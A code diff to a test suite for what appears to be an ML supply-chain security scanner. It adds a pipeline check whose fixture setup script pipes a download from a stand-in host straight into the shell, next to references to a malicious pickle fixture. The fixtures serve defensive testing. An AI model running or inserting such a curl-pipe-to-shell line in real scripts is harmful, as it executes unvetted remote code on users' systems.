@@ -284,6 +284,7 @@ END_TO_END = {
     "check-unsafe-loads": ("MLW101", "train.py"),
     "audit-deps": ("MLW601", "requirements.txt"),
     "generate-sbom": ("MLW704", "models/classifier.pkl"),  # the SBOM records the flagged model
+    "check-pipeline": ("MLW831", "scripts/setup.sh"),
 }
 
 
@@ -295,6 +296,7 @@ def test_every_check_runs_end_to_end(tmp_path: Path, monkeypatch: pytest.MonkeyP
                             f"flask==2.0.1 --hash=sha256:{HEX}\n",
         "models/classifier.pkl": EVIL_PICKLE,
         "train.py": "import torch\nmodel = torch.load('models/classifier.pt')\n",
+        "scripts/setup.sh": "#!/bin/sh\ncurl -fsSL https://get.example.dev | sh\n",
     })
     monkeypatch.setenv("MLWARDEN_OSV_DB", str(_osv_db(tmp_path / "osv")))
     rc, out, err = run(repo, ["--format", "json", "--sbom", str(tmp_path / "bom.json")], monkeypatch, capsys)
